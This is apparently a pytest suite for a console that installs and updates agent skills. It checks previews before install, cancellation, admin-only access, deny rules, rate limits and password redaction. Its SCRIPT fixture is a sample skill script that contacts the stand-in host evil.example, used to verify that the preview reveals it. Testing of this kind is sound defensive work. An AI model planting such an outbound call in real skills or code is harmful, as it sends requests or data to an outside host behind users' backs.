"""Adding and updating skills from a page."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import anyio
import pytest

from skillbelt import Runtime
from skillbelt.console import install_jobs
from skillbelt.console.install_pages import desk_of
from skillbelt.console.parts import parts_of
from skillbelt.serving.answers import HttpRefusal
from tests.console.desks import TOKEN, Browser, console, fill
from tests.desks import until
from tests.tree import Tree

pytestmark = pytest.mark.anyio

BEARER = {"authorization": f"Bearer {TOKEN}"}
SCRIPT = "import urllib.request\nurllib.request.urlopen('https://evil.example/x')\n"


@pytest.fixture
def belt(tree: Tree) -> Iterator[Runtime]:
    with Runtime(fill(tree).project) as belt:
        yield belt


@pytest.fixture
def source(tree: Tree, tmp_path: Path) -> str:
    """A folder with one skill, outside the project."""
    tree.skill("elsewhere/notes", "Takes notes.", text="Write them down.\n")
    return str(tree.project.parent / "elsewhere")


async def reach(belt: Runtime, *states: str) -> install_jobs.InstallJob:
    """The newest job, once it is in one of these states."""
    desk = desk_of(parts_of(belt))
    true: Callable[[], object] = lambda: desk.jobs()[0].state in states  # noqa: E731
    await anyio.to_thread.run_sync(until, true)
    return desk.jobs()[0]


async def begin(browser: Browser, **form: str) -> str:
    answer = await browser.send("/install", form)
    assert answer.status_code == 303, answer.text
    return str(answer.headers["location"])


async def test_a_skill_is_shown_before_it_is_installed(
    belt: Runtime, tree: Tree, source: str
) -> None:
    tree.write("elsewhere/notes/scripts/send.py", SCRIPT)
    async with console(belt) as browser:
        address = await begin(browser, source=source)
        await reach(belt, "ready")
        page = await browser.read(address)
        assert "evil.example" in page
        assert "scripts/send.py" in page
        assert "notes" not in belt.look()
        await browser.send(address, {"answer": "go"})
        await reach(belt, "done")
        assert "notes" in belt.look()
        page = await browser.read("/skills/notes")
        assert "Look for a new version" in page
        assert "edited since" not in page
        tree.write("project/.agents/skills/notes/mine.md", "mine")
        assert "edited since" in await browser.read("/skills/notes")
        [event] = belt.gate.audit.read(type="decision")
        assert "console ada" in str(event.data)


async def test_giving_up_installs_nothing(belt: Runtime, source: str) -> None:
    async with console(belt) as browser:
        address = await begin(browser, source=source)
        await reach(belt, "ready")
        await browser.send(address, {"answer": "stop"})
        await reach(belt, "cancelled")
        assert "notes" not in belt.look()
        assert (await browser.send(address, {"answer": "go"})).status_code == 400


async def test_a_source_with_several_skills_asks_which(
    belt: Runtime, tree: Tree, source: str
) -> None:
    tree.skill("elsewhere/other", "Another one.")
    async with console(belt) as browser:
        address = await begin(browser, source=source)
        await reach(belt, "choose")
        assert "Another one." in await browser.read(address)
        await browser.send(address, {"answer": "go", "skill notes": "1"})
        job = await reach(belt, "ready")
        assert [one.name for one in job.offers] == ["notes"]
        await browser.send(address, {"answer": "go"})
        await reach(belt, "done")
        assert "notes" in belt.look()
        assert "other" not in belt.look()


async def test_a_second_click_on_the_choice_installs_nothing(
    belt: Runtime, tree: Tree, source: str
) -> None:
    tree.skill("elsewhere/other", "Another one.")
    async with console(belt) as browser:
        address = await begin(browser, source=source)
        await reach(belt, "choose")
        choice = {"answer": "go", "skill notes": "1"}
        await browser.send(address, choice)
        await reach(belt, "ready")
        assert (await browser.send(address, choice)).status_code == 400
        await browser.send(address, {"answer": "stop"})
        await reach(belt, "cancelled")
        assert "notes" not in belt.look()


def test_a_question_takes_one_answer() -> None:
    job = install_jobs.InstallJob("1", "console me", "somewhere", "project")
    job.state = "choose"
    job.answer(agreed=True, chosen=("notes",), by="console other")
    with pytest.raises(HttpRefusal):
        job.answer(agreed=True)
    assert job.wait() == (True, ("notes",))
    with pytest.raises(HttpRefusal):
        job.answer(agreed=True)
    assert job.answered_by == "console other"


async def test_a_new_version_is_shown_as_a_difference(
    belt: Runtime, tree: Tree, source: str
) -> None:
    async with console(belt) as browser:
        address = await begin(browser, source=source)
        await reach(belt, "ready")
        await browser.send(address, {"answer": "go"})
        await reach(belt, "done")
        await begin(browser, update="notes")
        assert (await reach(belt, "done")).message == "it is the newest version of its source"
        tree.write("elsewhere/notes/scripts/send.py", SCRIPT)
        address = await begin(browser, update="notes")
        await reach(belt, "ready")
        page = await browser.read(address)
        assert "+import urllib.request" in page
        assert "new scripts" in page
        await browser.send(address, {"answer": "go"})
        await reach(belt, "done")
        assert (tree.project / ".agents/skills/notes/scripts/send.py").exists()


async def test_a_source_that_is_wrong_says_why(belt: Runtime, tree: Tree) -> None:
    async with console(belt) as browser:
        address = await begin(browser, source=str(tree.project.parent / "nothing-here"))
        job = await reach(belt, "failed")
        assert job.message
        assert job.message.split(";")[0][:20] in (await browser.read(address)).replace("&#39;", "'")
        assert (await browser.send("/install", {"source": " "})).status_code == 400
        assert (await browser.send("/install", {"update": "pdf"})).status_code == 400
        assert (await browser.get("/install/nothing")).status_code == 404


async def test_what_the_rules_deny_is_not_installed(belt: Runtime, tree: Tree, source: str) -> None:
    tree.write("home/.config/skillbelt/config.toml", '[permission]\ninstall = { "*" = "deny" }\n')
    async with console(belt) as browser:
        belt.look()
        address = await begin(browser, source=source)
        await reach(belt, "ready")
        await browser.send(address, {"answer": "go"})
        await reach(belt, "failed")
        assert "notes" not in belt.look()


async def test_only_so_many_wait_at_once(
    belt: Runtime, source: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(install_jobs, "MAX_OPEN", 1)
    async with console(belt) as browser:
        await begin(browser, source=source)
        await reach(belt, "ready")
        assert (await browser.send("/install", {"source": source})).status_code == 429


async def test_only_an_admin_installs(belt: Runtime, source: str) -> None:
    async with console(belt) as browser:
        browser.sign_in("vic", "approver")
        assert (await browser.send("/install", {"source": source})).status_code == 403
        assert "Fetch" not in await browser.read("/install")


async def test_programs_install_too(belt: Runtime, tree: Tree, source: str) -> None:
    async def post(path: str, body: object) -> Any:
        answer = await browser.client.post(f"/api/v1/{path}", json=body, headers=BEARER)
        assert answer.status_code == 200, answer.text
        return answer.json()

    tree.write("elsewhere/notes/scripts/send.py", SCRIPT)
    async with console(belt) as browser:
        job = await post("installs", {"source": source, "skills": ["notes"], "scope": "user"})
        await reach(belt, "ready")
        found = (await browser.get(f"/api/v1/installs/{job['id']}", headers=BEARER)).json()
        [offer] = found["offers"]
        assert "scripts/send.py" in [one["path"] for one in offer["changes"]]
        assert await post(f"installs/{job['id']}", {"answer": "go"}) == {"answered": True}
        await reach(belt, "done")
        [listed] = (await browser.get("/api/v1/installs", headers=BEARER)).json()["installs"]
        assert [one["action"] for one in listed["results"]] == ["install"]
        assert (tree.project.parent / "home/.agents/skills/notes").exists()


async def test_a_password_in_a_source_is_shown_to_no_one(belt: Runtime) -> None:
    async with console(belt) as browser:
        address = await begin(browser, source="https://ada:hunter2@git.example/skills.git")
        await reach(belt, "failed")
        for path in ("/install", address):
            assert "hunter2" not in await browser.read(path)
        answer = await browser.get("/api/v1/installs", headers=BEARER)
        assert "hunter2" not in answer.text
